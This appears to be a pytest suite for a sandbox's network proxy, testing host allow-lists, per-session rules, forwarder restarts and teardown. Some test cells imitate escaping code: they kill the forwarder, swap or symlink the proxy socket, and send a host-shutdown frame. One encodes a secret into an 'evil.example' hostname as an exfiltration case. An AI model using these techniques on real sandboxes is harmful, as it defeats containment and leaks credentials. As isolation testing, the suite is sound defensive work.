"""The way out of a whole sandbox: code behind a real wall, what carries its connections, the proxy, servers beyond."""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import socket
import tempfile
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from client import Client, Failed, HostFixture
from network_place import OTHER, PUBLIC, in_namespace
from network_try import Server
from wall_fixture import needs_wall, wall_for

from seer_host.config import ConfigError, parse_config
from seer_spawner import probes
from seer_spawner.processes import descendants

pytestmark = needs_wall
NOTHING: dict[str, Any] = {"open": False, "hosts": []}
OPEN: dict[str, Any] = {"open": True, "hosts": []}
SHUTDOWN = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "host/shutdown", "params": {}})

#: In each cell: what a request through the proxy is answered, and what comes through it.
ASK = """
import socket, os, time
def ask(place, then=b"", port=3128):
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(f"CONNECT {place} HTTP/1.1\\r\\n\\r\\n".encode() + then)
        sock.shutdown(socket.SHUT_WR)
        said = b""
        while data := sock.recv(65536):
            said += data
        return said
def status(place):
    return ask(place)[9:12].decode()
def tunnel(place):
    sock = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    sock.sendall(f"CONNECT {place} HTTP/1.1\\r\\n\\r\\n".encode())
    head = b""
    while not head.endswith(b"\\r\\n\\r\\n"):
        head += sock.recv(1)
    return sock
SOCKET = "/run/seer/proxy.sock"
def framed(body):
    '''What the socket says to what is meant for the host.'''
    sock = socket.socket(socket.AF_UNIX)
    try:
        sock.connect(SOCKET)
        sock.sendall(f"Content-Length: {len(body)}\\r\\n\\r\\n{body}".encode())
        return sock.recv(1000)[:12]
    except OSError:
        return None
"""


def to(*hosts: str) -> dict[str, Any]:
    return {"open": False, "hosts": [{"name": name, "port": None, "private": False} for name in hosts]}


@contextmanager
def walled(rules: dict[str, Any] | None = None, **config: Any) -> Iterator[tuple[HostFixture, Client]]:
    root = Path(tempfile.mkdtemp(prefix="seer-t"))
    host = HostFixture(root, walled=True, network=rules, **config)
    client = host.client()
    try:
        yield host, client
    finally:
        for pid in [*descendants(host.pid), host.pid]:
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                continue
        shutil.rmtree(root, ignore_errors=True)


class Cells:
    """Runs cells of one session, each with `ASK` before it."""

    def __init__(self, client: Client, session: str = "s1") -> None:
        self.client, self.session, self.count, self.generation = client, session, 0, 1
        client.start(session)

    def says(self, code: str) -> str:
        self.count += 1
        cell = f"c{self.count}"
        records = self.client.run(cell, ASK + code, session=self.session, generation=self.generation)
        assert records[-1]["status"] == "ok", records
        return self.client.stdout_of(records).strip()

    def until(self, expression: str, wanted: str, seconds: float = 10) -> None:
        deadline = time.monotonic() + seconds
        while (said := self.says(f"try: print({expression})\nexcept OSError as e: print('none', e)")) != wanted:
            assert time.monotonic() < deadline, said


def connections(client: Client) -> list[dict[str, Any]]:
    records: list[dict[str, Any]] = []
    while more := client.read(records[-1]["seq"] if records else 0, wait_ms=0):
        records += more
    return [record for record in records if record["kind"] == "network-connect"]


def places(client: Client) -> list[tuple[str, int, bool]]:
    return [(record["host"], record["port"], record["allowed"]) for record in connections(client)]


@in_namespace
def test_what_may_be_reached_and_what_may_not() -> None:
    with (
        Server(PUBLIC) as server,
        Server(OTHER) as other,
        Server("127.0.0.1") as bait,
        walled(to(PUBLIC)) as (_, client),
    ):
        cells = Cells(client)
        there, elsewhere, here = f"{PUBLIC}:{server.port}", f"{OTHER}:{other.port}", f"127.0.0.1:{bait.port}"
        assert cells.says(f"print(ask({there!r}, b'x' * 1000000).endswith(b'hello\\n' + b'x' * 1000000))") == "True"
        assert cells.says(f"print(status({elsewhere!r}), status({here!r}))") == "403 403"
        direct = f"try: socket.create_connection(({PUBLIC!r}, {server.port}), 3)\nexcept OSError as e: print(e.errno)"
        assert cells.says(direct) == "101", "there is no other way"
        assert (server.reached, other.reached, bait.reached) == (1, 0, 0)
        assert places(client) == [
            (PUBLIC, server.port, True),
            (OTHER, other.port, False),
            ("127.0.0.1", bait.port, False),
        ], "the probes of the start are not told"
        assert {record["session"] for record in connections(client)} == {"network"}
        for one in (server, other, bait):
            address = one.listener.getsockname()
            assert socket.create_connection(address).recv(6) == b"hello\n", "the control"


@in_namespace
def test_the_way_is_open_when_the_sandbox_has_started() -> None:
    with walled(OPEN) as (host, _):
        carries = next(pid for pid in descendants(host.pid) if b"\0forward\0" in command(pid))
        listening = Path(f"/proc/{carries}/net/tcp").read_text()
        assert re.search(r" 0100007F:0C38 \S+ 0A ", listening), listening


@in_namespace
def test_another_session_a_new_kernel_and_new_rules() -> None:
    with Server(PUBLIC) as server, walled(NOTHING) as (_, client):
        first, second = Cells(client), Cells(client, "s2")
        there = f"{PUBLIC}:{server.port}"
        assert first.says(f"print(status({there!r}))") == "403"
        client.request("network/rules", **to(PUBLIC))
        assert second.says(f"print(status({there!r}))") == "200"
        assert first.says(f"kept = tunnel({there!r}); print(kept.recv(6))") == "b'hello\\n'"
        client.request("network/rules", **NOTHING)
        assert first.says("print(kept.recv(100))") == "b''", "what was open is cut"
        assert second.says(f"print(status({there!r}))") == "403"
        client.start("s2", generation=2)
        second.generation = 2
        client.request("network/rules", **OPEN)
        assert second.says(f"print(status({there!r}))") == "200"
        for wrong in ({"open": 1, "hosts": []}, {"open": True}, {"open": True, "hosts": [{"name": "*"}]}):
            with pytest.raises(Failed) as refused:
                client.request("network/rules", **wrong)
            assert refused.value.code == -32602


@in_namespace
def test_what_carries_connections_is_started_again() -> None:
    with Server(PUBLIC) as server, walled(OPEN) as (host, client):
        cells = Cells(client)
        expression = f"status('{PUBLIC}:{server.port}')"
        for _ in range(2):
            cells.says(
                "for p in os.listdir('/proc'):\n"
                "    if p.isdigit() and b'\\0forward\\0' in open(f'/proc/{p}/cmdline', 'rb').read(): os.kill(int(p), 9)"
            )
            cells.until(expression, "200")
        # The spawner ends, and all behind the wall with it: the next one has a way out, too.
        spawner = next(
            pid for pid in descendants(host.pid) if b"\0spawner\0" in command(pid) and parent(pid) != host.pid
        )
        os.kill(spawner, signal.SIGKILL)
        client.until("kernel-dead")
        client.start(generation=2)
        cells.generation = 2
        assert cells.says(f"print({expression})") == "200"


@in_namespace
def test_a_pipe_where_its_log_would_be_holds_nothing_up() -> None:
    with Server(PUBLIC) as server, walled(OPEN) as (_, client):
        cells = Cells(client)
        cells.says(
            "log = '/run/seer/proxy.sock.log'\nif os.path.lexists(log): os.unlink(log)\nos.mkfifo(log)\n"
            "for p in os.listdir('/proc'):\n"
            "    if p.isdigit() and b'\\0forward\\0' in open(f'/proc/{p}/cmdline', 'rb').read(): os.kill(int(p), 9)"
        )
        cells.until(f"status('{PUBLIC}:{server.port}')", "200")


@in_namespace
def test_there_is_a_way_out_after_everything_was_ended() -> None:
    with Server(PUBLIC) as server, walled(OPEN) as (_, client):
        Cells(client)
        client.request("host/keep", leaseSeconds=60, sessions=[])
        assert Cells(client, "s1-2").says(f"print(status('{PUBLIC}:{server.port}'))") == "200"


def command(pid: int) -> bytes:
    return Path(f"/proc/{pid}/cmdline").read_bytes()


def parent(pid: int) -> int:
    return int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])


@in_namespace
def test_code_that_takes_it_down_again_and_again_is_left_without() -> None:
    with walled(OPEN) as (host, client):
        cells = Cells(client)
        cells.says(
            "import glob\nend = time.time() + 8\nwhile time.time() < end:\n"
            "    for p in glob.glob('/proc/[0-9]*/cmdline'):\n"
            "        try:\n"
            "            if b'\\0forward\\0' in open(p, 'rb').read(): os.kill(int(p.split('/')[2]), 9)\n"
            "        except OSError: pass\n"
            "    time.sleep(0.02)"
        )
        log = (host.root / "state" / "host.log").read_text()
        assert log.count("what carries connections to the proxy ended") == 10
        assert cells.says("print('lives')") == "lives"


@in_namespace
@pytest.mark.parametrize("how", ["deleted", "a link to the host's socket", "a folder", "a socket of its own"])
def test_its_socket_is_taken_away(how: str) -> None:
    with Server(PUBLIC) as server, walled(OPEN) as (host, client):
        cells = Cells(client)
        link = f"os.symlink({host.config['socket']!r}, SOCKET)"
        own = "own = socket.socket(socket.AF_UNIX); own.bind(SOCKET); own.listen()"
        replaced = {"a link to the host's socket": link, "a folder": "os.mkdir(SOCKET)", "a socket of its own": own}
        cells.says(f"os.unlink(SOCKET)\n{replaced.get(how, '')}")
        if how == "a socket of its own":
            said = cells.says(
                "mine = socket.create_connection(('127.0.0.1', 3128)); mine.sendall(b'hello me')\n"
                "there, _ = own.accept(); print(there.recv(100))"
            )
            assert said == "b'hello me'", "it speaks to itself, which it could do before"
        else:
            there = f"{PUBLIC}:{server.port}"
            assert "502 Seer: the socket of the sandbox's proxy is gone" in cells.says(f"print(ask({there!r}))")
            assert cells.says(f"print(framed({SHUTDOWN!r}))") == "None"
        assert client.request("host/hello")["sandbox"] == "sb1"
        client.request("network/rules", **NOTHING)
        Cells(client, "s2")
        client.request("host/shutdown", timeout=15)


@in_namespace
def test_the_frames_of_the_host_are_nothing_to_the_proxy() -> None:
    with walled(OPEN) as (_, client):
        cells = Cells(client)
        assert cells.says(f"print(framed({SHUTDOWN!r}))") == "b'HTTP/1.1 400'"
        assert client.request("host/hello")["sandbox"] == "sb1"


@in_namespace
def test_without_a_network_there_is_no_way_out() -> None:
    with walled(None) as (host, client):
        cells = Cells(client)
        closed = "try: socket.create_connection(('127.0.0.1', 3128), 3)\nexcept OSError as e: print(e.errno)"
        assert cells.says(closed) == "111"
        assert cells.says("print(os.path.exists('/run/seer/proxy.sock'))") == "False"
        assert not any(b"\0forward\0" in command(pid) for pid in descendants(host.pid))
        with pytest.raises(Failed) as refused:
            client.request("network/rules", **OPEN)
        assert "started without a network" in str(refused.value)


@in_namespace
def test_the_end_of_the_sandbox_is_the_end_of_its_connections() -> None:
    """At once, and not only with the host, which stays a moment for whoever reads how it ended."""
    with Server(PUBLIC, serve=lambda sock: time.sleep(60)) as server, walled(OPEN) as (host, client):
        Cells(client).says(f"kept = tunnel('{PUBLIC}:{server.port}')")
        assert held_to(server.port) == 1
        client.request("host/shutdown", timeout=15)
        assert held_to(server.port) == 0
        assert Path(f"/proc/{host.pid}").exists() and client.request("host/hello")


def held_to(port: int) -> int:
    """How many connections to this port are held; what the system still has of one that was closed is nobody's."""
    rows = [line.split() for line in Path("/proc/self/net/tcp").read_text().splitlines()[1:]]
    return sum(row[2].endswith(f":{port:04X}") and row[9] != "0" for row in rows)


@in_namespace
def test_secrets_in_names_are_hidden() -> None:
    redact = [{"name": "TOKEN", "forms": ["SeCrEt-123456"]}]
    with walled(OPEN, redact=redact) as (host, client):
        cells = Cells(client)
        cells.says("[ask(f'SeCrEt-123456.{end}') for end in ('evil.example:443', 'evil.example:0', 'a b:443', '::')]")
        assert "[secret TOKEN].evil.example" in [record["host"] for record in connections(client)]
        journal = (host.root / "state" / "journal.jsonl").read_text()
        assert "crEt" not in journal and "secret-123456" not in journal


def test_a_network_needs_a_wall_and_rules_that_are_rules(tmp_path: Path) -> None:
    def config(**more: Any) -> bytes:
        names = ("socket", "stateDir", "runtimeDir", "workspace", "pythonDir")
        given = {name: str(tmp_path / name) for name in names}
        return json.dumps({"sandbox": "sb1", "python": "python", **given, **more}).encode()

    wall = wall_for(tmp_path)
    assert parse_config(config(network=None)).network is None
    assert parse_config(config(network=to("Example.org."), wall=wall)).network is not None
    wrong: list[Any] = [True, [], {"open": True}, {"open": "yes", "hosts": []}, {**OPEN, "more": 1}]
    for network in [*wrong, {"open": True, "hosts": ["a"]}]:
        with pytest.raises(ConfigError, match="network"):
            parse_config(config(network=network, wall=wall))
    with pytest.raises(ConfigError, match="a sandbox with a wall"):
        parse_config(config(network=OPEN))


def test_the_probe_notices_a_proxy_that_lets_code_reach_this_machine(tmp_path: Path) -> None:
    """A proxy that says yes to everything, in place of ours."""
    path = str(tmp_path / "proxy.sock")
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(path)
    listener.listen()
    answers = iter([b"403 Seer", b"403 Seer", b"200 Connected"])

    def serve() -> None:
        while True:
            sock, _ = listener.accept()
            with sock:
                sock.recv(1000)
                sock.sendall(b"HTTP/1.1 " + next(answers) + b"\r\n\r\n")

    threading.Thread(target=serve, daemon=True).start()
    nothing: dict[str, Any] = {"files": [], "sockets": [], "abstract": "none", "namespaces": {}, "hidden": []}
    baits = probes.Baits(
        **nothing, read_only=[], writable=[], descriptors=[], ports=[["127.0.0.1", 1], ["::1", 1]], proxies=[path]
    )
    assert probes.network(baits) is None
    assert probes.network(baits) == "connected to port 1 of the host's 127.0.0.1 through the sandbox's proxy"
